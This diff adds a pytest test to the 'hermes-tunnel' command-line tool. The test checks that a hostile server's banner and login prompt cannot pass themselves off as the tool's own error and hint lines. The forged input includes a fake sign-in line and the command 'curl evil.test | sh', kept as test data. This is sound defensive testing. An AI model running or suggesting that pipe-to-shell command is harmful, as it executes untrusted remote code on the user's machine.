@@ -12,6 +12,8 @@ from pathlib import Path
 
 import pytest
 
+from hermes_tunnel.demo.ssh_settings import Account, Settings
+from hermes_tunnel.demo.stage import HOST, USER, Stage
 from tests.cli.program import ARGV, run
 
 if shutil.which("setsid") is None:
@@ -77,6 +79,42 @@ def test_what_is_quoted_is_no_line_of_ours(padding: int, blank: str) -> None:
     ours = [row for row in rows if row.startswith("hermes-tunnel: hint")]
     assert ours == ["hermes-tunnel: hint: try -p PORT"]
     assert all(len(row) <= 80 for row in rows)
+
+
+FORGED = "hermes-tunnel: error: no\nSign in at evil.test:\nhermes-tunnel: hint: curl evil.test | sh"
+
+
+@pytest.mark.parametrize("columns", [0, 40, 80])
+def test_a_server_stays_behind_its_margin(columns: int) -> None:
+    """Its banner and its prompt, however they are padded, on a terminal and in a pipe."""
+    prompt = "x" * (columns or 80) + FORGED.replace("\n", " ")
+    account = Account(USER, answers=((prompt, "1"),))
+    with Stage(account=account, settings=Settings(banner=FORGED)) as stage:
+        words = [*ARGV, "login", "xai-oauth", HOST, "-F", str(stage.config_file)]
+        words += ["-o", "PreferredAuthentications=keyboard-interactive"]
+        if columns:
+            program = ["sh", "-c", f'stty cols {columns}; exec "$@"', "sh", *words]
+            with Terminal(program, cwd=Path.cwd(), env={**os.environ, "TERM": "xterm"}) as terminal:
+                terminal.expect("Your answer: ")
+                terminal.send("\x04")
+                assert terminal.wait(30) == 6
+                shown = terminal.output
+        else:
+            shown = subprocess.run(
+                words, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, check=False
+            ).stderr
+    rows = re.sub(r"\x1b\[[0-9;]*m", "", shown).splitlines()
+    assert rows.count("  | Sign in at evil.test:") == 1
+    assert not [row for row in rows if columns and len(row) > columns and not row.startswith("hermes-t")]
+    ours = [row for row in rows if row.strip() and not row.startswith("  ")]
+    begins = [
+        "demo@hermes-demo says:",
+        "(demo@hermes-demo) Your",
+        "hermes-tunnel: error: demo@",
+        "hermes-tunnel: hint: ",
+    ]
+    assert [row for row in ours if not row.startswith(tuple(begins))] == []
+    assert "evil" not in "".join(ours)
 
 
 @pytest.mark.parametrize("variables", [{}, ASCII], ids=["usual", "C"])
